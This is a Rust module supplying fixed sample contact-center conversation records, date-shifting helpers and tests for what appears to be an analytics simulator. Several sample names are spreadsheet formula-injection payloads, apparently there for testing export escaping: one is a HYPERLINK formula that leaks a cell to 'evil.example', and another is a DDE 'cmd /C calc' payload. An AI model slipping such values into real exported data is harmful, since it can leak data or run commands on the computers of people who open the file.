//! Sample records shaped like the conversation details real orgs published (public
//! repositories, the developer center), which the seeded generator does not produce: an agent
//! who never answered but carries after-call work and a wrap-up timeout; six queue legs with
//! five blind transfers and a `workflow` participant on web messaging; a 2016-era record
//! without `conversationEnd`, `metrics`, `divisionIds` or `originatingDirection`, with
//! timestamps of two fractional digits and redacted ids (`xxxxxxxx-xxxx-…`); an outbound call
//! and an IVR-only call that no queue was offered; a leg in progress that already has its
//! per-segment `tTalk`/`tHeld`; and a conversation whose names, tag and attributes are
//! formulas (its phone numbers start with `+`, as phone numbers do).
//!
//! Owns the fixed records and the entities they name (`ORG_QUEUES`, `ORG_USERS`,
//! `ORG_WRAPUP_CODES`); `data.rs` mixes them into a dataset when `SimConfig::samples` says so,
//! without touching what the seeds generate. A record's timestamps keep their text: `place`
//! moves the record by whole days into the simulated range, so only dates change.

use serde_json::Value;

/// Queues the samples name: `(id, name)`; the first is a formula.
pub const ORG_QUEUES: [(&str, &str); 3] = [
    (
        "5a000000-0000-4000-8000-00000000a001",
        "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"x\")",
    ),
    ("5a000000-0000-4000-8000-00000000a002", "Web Chat Tier 1"),
    ("5a000000-0000-4000-8000-00000000a003", "Web Chat Tier 2"),
];

/// Users the samples name: `(id, name)`; the first is a formula.
pub const ORG_USERS: [(&str, &str); 3] = [
    ("5a000000-0000-4000-8000-00000000b001", "+Mallory =cmd"),
    ("5a000000-0000-4000-8000-00000000b002", "Ana Ruiz"),
    ("5a000000-0000-4000-8000-00000000b003", "Ben Okafor"),
];

/// Wrap-up codes the samples name: `(id, name)`; the first is a formula.
pub const ORG_WRAPUP_CODES: [(&str, &str); 2] = [
    (
        "5a000000-0000-4000-8000-00000000c001",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ),
    ("5a000000-0000-4000-8000-00000000c002", "Resolved"),
];

/// The sample records, as JSON text with the conversation's own dates. Attributes, where a
/// participant has them, are served by job results only.
pub const RECORDS: [&str; 7] = [
    NEVER_ANSWERED,
    WEB_MESSAGING_TRANSFERS,
    OLDER_ORG,
    OUTBOUND,
    IVR_ONLY,
    LEG_IN_PROGRESS,
    FORMULAS,
];

/// Agent 1 was alerted, did not answer, and still got after-call work ended by the wrap-up
/// timeout (`tAcw` = `tHandle`); agent 2 answered.
const NEVER_ANSWERED: &str = include_str!("../samples/never_answered.json");

/// Web messaging: a workflow, six queue legs, five blind transfers; the agents' `tHeld` counts
/// time spent on other interactions.
const WEB_MESSAGING_TRANSFERS: &str = include_str!("../samples/web_messaging_transfers.json");

/// A 2016-era record: no end, no metrics, no divisions, no direction; two fractional digits;
/// every id redacted.
const OLDER_ORG: &str = include_str!("../samples/older_org.json");

/// An outbound call an agent dialled: no queue offered it; its handle time includes dialing
/// and contacting; the customer leg's `peer` means the agent hung up.
const OUTBOUND: &str = include_str!("../samples/outbound.json");

/// A call that ended in the IVR: no queue was offered it.
const IVR_ONLY: &str = include_str!("../samples/ivr_only.json");

/// A call in progress: the agent's leg has no end yet, but its `tTalk` and `tHeld` are
/// emitted per segment already.
const LEG_IN_PROGRESS: &str = include_str!("../samples/leg_in_progress.json");

/// Names, tag and attributes that are formulas; phone numbers that start with `+`.
const FORMULAS: &str = include_str!("../samples/formulas.json");

const DAY_MS: i64 = 86_400_000;

/// The record moved by whole days so that it starts inside `[from_ms, to_ms)`, on the first
/// day of the range where its time of day falls inside; None when it falls nowhere. Only the
/// dates of its timestamps change, so their text (two fractional digits, say) is kept.
pub fn place(text: &str, from_ms: i64, to_ms: i64) -> Option<Value> {
    let mut record: Value = serde_json::from_str(text).expect("sample records are JSON");
    let start = start_ms(&record)?;
    let time_of_day = start.rem_euclid(DAY_MS);
    let mut day = from_ms.div_euclid(DAY_MS);
    if day * DAY_MS + time_of_day < from_ms {
        day += 1;
    }
    let placed = day * DAY_MS + time_of_day;
    if placed >= to_ms {
        return None;
    }
    shift_dates(&mut record, (placed - start).div_euclid(DAY_MS));
    Some(record)
}

/// `conversationStart` in milliseconds since the epoch.
pub fn start_ms(record: &Value) -> Option<i64> {
    timestamp_ms(record["conversationStart"].as_str()?)
}

/// `conversationEnd` in milliseconds since the epoch, when the record has one.
pub fn end_ms(record: &Value) -> Option<i64> {
    timestamp_ms(record.get("conversationEnd")?.as_str()?)
}

fn timestamp_ms(text: &str) -> Option<i64> {
    let t =
        time::OffsetDateTime::parse(text, &time::format_description::well_known::Rfc3339).ok()?;
    Some((t.unix_timestamp_nanos() / 1_000_000) as i64)
}

/// Moves the date of every timestamp string in `value` by `days`.
fn shift_dates(value: &mut Value, days: i64) {
    match value {
        Value::String(s) if is_timestamp(s) => {
            let date = time::Date::parse(
                &s[..10],
                time::macros::format_description!("[year]-[month]-[day]"),
            )
            .expect("a sample date");
            let moved = date + time::Duration::days(days);
            *s = format!(
                "{:04}-{:02}-{:02}{}",
                moved.year(),
                u8::from(moved.month()),
                moved.day(),
                &s[10..]
            );
        }
        Value::Array(items) => items.iter_mut().for_each(|v| shift_dates(v, days)),
        Value::Object(fields) => fields.values_mut().for_each(|v| shift_dates(v, days)),
        _ => {}
    }
}

fn is_timestamp(s: &str) -> bool {
    let b = s.as_bytes();
    b.len() > 19 && b[4] == b'-' && b[7] == b'-' && b[10] == b'T' && s.ends_with('Z')
}

/// The record as the details query returns it: participants' `attributes` are for job results.
pub fn without_attributes(mut record: Value) -> Value {
    if let Some(participants) = record["participants"].as_array_mut() {
        for p in participants.iter_mut().filter_map(Value::as_object_mut) {
            p.remove("attributes");
        }
    }
    record
}

#[cfg(test)]
mod tests {
    use super::*;

    /// 2026-11-01T00:00:00Z.
    const NOV_1_MS: i64 = 1_793_491_200_000;

    #[test]
    fn placing_moves_dates_by_whole_days_and_keeps_the_text() {
        let placed = place(OLDER_ORG, NOV_1_MS, NOV_1_MS + 2 * DAY_MS).unwrap();
        assert_eq!(placed["conversationStart"], "2026-11-01T11:50:49.58Z");
        let segment = &placed["participants"][1]["sessions"][0]["segments"][0];
        assert_eq!(segment["segmentEnd"], "2026-11-01T11:52:10.5Z");
        assert_eq!(
            placed["conversationId"],
            "xxxxxxxx-xxxx-xxxx-xxxx-xxxxxxxxxxxx"
        );
        // After the range's start time of day: the next day; past its end: nowhere.
        let noon = NOV_1_MS + DAY_MS / 2;
        let placed = place(OLDER_ORG, noon, noon + DAY_MS).unwrap();
        assert_eq!(placed["conversationStart"], "2026-11-02T11:50:49.58Z");
        assert!(place(OLDER_ORG, noon, noon + 3_600_000).is_none());
    }

    #[test]
    fn every_record_parses_and_has_a_distinct_id() {
        let mut ids: Vec<String> = RECORDS
            .iter()
            .map(|text| {
                let record: Value = serde_json::from_str(text).unwrap();
                assert!(start_ms(&record).is_some());
                record["conversationId"].as_str().unwrap().to_string()
            })
            .collect();
        ids.sort();
        ids.dedup();
        assert_eq!(ids.len(), RECORDS.len());
    }
}
